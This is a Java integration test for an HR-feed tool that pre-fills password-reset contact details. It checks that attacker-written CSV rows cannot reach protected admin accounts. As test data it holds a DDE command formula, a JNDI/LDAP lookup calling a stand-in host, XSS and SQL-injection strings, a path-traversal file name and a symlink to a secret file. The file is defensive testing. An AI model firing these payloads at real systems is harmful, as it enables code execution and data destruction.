package org.ssprprefill.cli;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.IntStream;

import org.assertj.core.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.ssprprefill.simulator.SimulatedGroup;
import org.ssprprefill.simulator.SimulatedUser;
import org.ssprprefill.simulator.SimulatedUser.Trait;
import org.ssprprefill.simulator.TenantDescription;
import org.ssprprefill.simulator.TenantDescription.RoleGrant;

import static org.ssprprefill.cli.Contoso.tenant;
import static org.ssprprefill.cli.Contoso.user;
import static org.ssprprefill.cli.OutcomeAssert.assertThat;

/**
 * Whoever can put a line into HR's export tries to get at accounts that must not be
 * touched, or to have something run on somebody's machine. Each attempt has the answer
 * expected of it.
 */
@ExtendWith(Rehearsals.class)
class AttackIT {

	private static final String HEADER = "Id;UPN;Mail;Mobile;Email;Name;Dept\n";

	/** The accounts that must not be touched, with the decision and the reason. */
	private static final Map<String, List<String>> TARGETS = new LinkedHashMap<>(
			Map.of("T1", List.of("protected", "admin-role"), "T2", List.of("protected", "admin-eligible"), "T3",
					List.of("protected", "admin-through-group"), "T4", List.of("protected", "admin-through-group"),
					"T5", List.of("protected", "excluded"), "T6", List.of("out-of-scope", "guest"), "T7",
					List.of("out-of-scope", "disabled"), "T8", List.of("protected", "restricted-unit")));

	private static final List<String> FORMULAS = List.of("=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3",
			"=HYPERLINK(\"http://example.org\")", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
			"&lt;b&gt;", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://example.org/a}",
			"'; drop table sspr_prefill.change; --");

	private final List<String> rows = new ArrayList<>();

	private static TenantDescription contoso() {
		List<SimulatedUser> users = new ArrayList<>();
		for (String target : TARGETS.keySet()) {
			SimulatedUser one = user(target).withMail("desk." + target.toLowerCase(Locale.ROOT) + "@contoso.com");
			users.add(switch (target) {
				case "T6" -> one.with(Trait.GUEST);
				case "T7" -> one.with(Trait.DISABLED);
				case "T8" -> one.with(Trait.RESTRICTED_UNIT);
				default -> one;
			});
		}
		users.add(SimulatedUser.of("t1.second@contoso.com").withEmployeeId("REUSED").withLicences("SPE_E3"));
		users.add(SimulatedUser.of("t1.admin@contoso.com").withEmployeeId("REUSED").withLicences("SPE_E3"));
		users.add(user("GOOD"));
		users.add(user("LATE"));
		IntStream.range(0, 50).forEach((number) -> users.add(user("C" + number)));
		return tenant(users.toArray(SimulatedUser[]::new))
			.withGroups(SimulatedGroup.of("Operators", "t3@contoso.com").ownedBy("t4@contoso.com").forRoles())
			.withRoles(
					List.of(new RoleGrant("User Administrator", "t1@contoso.com"),
							new RoleGrant("User Administrator", "t1.admin@contoso.com"),
							new RoleGrant("Helpdesk Administrator", "Operators")),
					List.of(new RoleGrant("Exchange Administrator", "t2@contoso.com")));
	}

	/** The Latin letters o and c as their Cyrillic look-alikes. */
	private static String lookAlike(String name) {
		return name.replace('o', '\u043E').replace('c', '\u0441');
	}

	private static String mixed(String name) {
		StringBuilder mixed = new StringBuilder();
		for (int index = 0; index < name.length(); index++) {
			String letter = name.substring(index, index + 1);
			mixed.append((index % 2 == 0) ? letter.toUpperCase(Locale.ROOT) : letter);
		}
		return mixed.toString();
	}

	/** Every way to name an account, always with the same number of the attacker's. */
	private void aimAt(String target, int number) {
		String contact = ";+31 6123457" + String.format("%02d", number) + ";attacker" + number + "@example.org;Eve;";
		String upn = target.toLowerCase(Locale.ROOT) + "@contoso.com";
		this.rows.add(target + ";;" + contact);
		for (String name : List.of(upn, upn.toUpperCase(Locale.ROOT), mixed(upn), " " + upn + " ")) {
			this.rows.add(";" + name + ";" + contact);
			this.rows.add(";;" + name.replaceFirst("(?i)t", "desk.t") + contact);
		}
		this.rows.add(";" + lookAlike(upn) + ";;+31 6123458" + String.format("%02d", number) + ";;Eve;");
		this.rows.add(";;desk." + lookAlike(upn) + ";+31 6123459" + String.format("%02d", number) + ";;Eve;");
	}

	private Rehearsal rehearsal() {
		return Rehearsal.of(contoso())
			.with("match.by", "[employee-id, user-principal-name, mail]")
			.with("feed.columns.user-principal-name", "UPN")
			.with("feed.columns.mail", "Mail")
			.with("feed.columns.name", "Name")
			.with("feed.columns.group", "Dept")
			.with("scope.exclude", "[T5@Contoso.com]");
	}

	private static String quoted(String cell) {
		return "\"" + cell.replace("\"", "\"\"") + "\"";
	}

	@Test
	void writesToNobodyWhoMustNotBeTouchedHoweverTheyAreNamed() throws Exception {
		int number = 0;
		for (String target : TARGETS.keySet()) {
			aimAt(target, number++);
		}
		this.rows.add("REUSED;;;06 12345601;;Eve;");
		IntStream.range(0, 50).forEach((one) -> this.rows.add("C" + one + ";;;06 12345602;;Many;"));
		for (int column = 0; column < 7; column++) {
			for (String attempt : FORMULAS) {
				this.rows.add(row(column, quoted(attempt)));
			}
			this.rows.add(row(column, "a\u0007b"));
			this.rows.add(row(column, quoted("a\u202Eb")));
			this.rows.add(row(column, quoted("a\nb\u0001c")));
			if (column % 3 == 0) {
				this.rows.add(row(column, "9".repeat(1_000_000)));
			}
		}
		this.rows.add("GOOD;;;06 12345603;;Gil;Sales");
		this.rows.add("LATE;;;06 12345604;;Lou;Sales");
		Rehearsal rehearsal = rehearsal().file("hr..%2f..%2f.csv", HEADER + String.join("\n", this.rows) + "\n");
		Path secret = Files.writeString(rehearsal.folder().resolve("secret.csv"), HEADER + "T1;;;06 12345605;;Eve;\n");
		Files.createSymbolicLink(rehearsal.folder().resolve("drop/link.csv"), secret);
		Outcome plan = rehearsal.plan();
		rehearsal.tenant().grantRole("late@contoso.com", "User Administrator");
		Outcome night = rehearsal.apply(plan);
		assertThat(night).exitsWith(4).wroteExactly("good mobile").decided("LATE", "protected", "admin-role");
		decidedAsExpected(night.people());
		Assertions.assertThat(night.report().feed().problems())
			.containsEntry("phone-shared", 50)
			.containsKeys("control-characters", "cell-too-long", "phone-invalid", "email-invalid");
		Assertions.assertThat(secret).exists();
		harmless(night);
	}

	/** One attempt in one column; the rest of the row would be in order. */
	private String row(int column, String attempt) {
		String[] cells = { "N" + this.rows.size(), "", "", "", "", "Eve", "Sales" };
		cells[column] = attempt;
		return String.join(";", cells);
	}

	private static void decidedAsExpected(List<Map<String, String>> people) {
		for (Map.Entry<String, List<String>> target : TARGETS.entrySet()) {
			String upn = target.getKey().toLowerCase(Locale.ROOT) + "@contoso.com";
			List<Map<String, String>> aimed = people.stream()
				.filter((line) -> line.get("user_principal_name").equals(upn) && !line.get("file").isEmpty())
				.toList();
			Assertions.assertThat(aimed)
				.as(upn)
				.hasSizeGreaterThanOrEqualTo(9)
				.allSatisfy((line) -> Assertions.assertThat(List.of(line.get("decision"), line.get("reason")))
					.isEqualTo(target.getValue()));
		}
		Assertions.assertThat(people)
			.filteredOn((line) -> line.get("user_principal_name").contains("\u043E"))
			.isNotEmpty()
			.allSatisfy((line) -> Assertions.assertThat(line).containsEntry("decision", "unmatched"));
		Assertions.assertThat(people)
			.filteredOn((line) -> line.get("employee_id").equals("REUSED") && !line.get("file").isEmpty())
			.extracting((line) -> line.get("decision"))
			.containsExactly("ambiguous");
	}

	private static void harmless(Outcome night) {
		List<String> cells = new ArrayList<>();
		night.people().forEach((line) -> cells.addAll(line.values()));
		night.csv("rejects.csv").forEach((line) -> cells.addAll(line.values()));
		Assertions.assertThat(cells)
			.noneMatch((cell) -> cell.matches("(?s)\\s*[=+@\\t\\r-].*"))
			.noneMatch((cell) -> cell.length() > 1000);
		Assertions.assertThat(night.file("report.html")).doesNotContain("<script>alert", "<img src=x", "\u202E");
	}

}
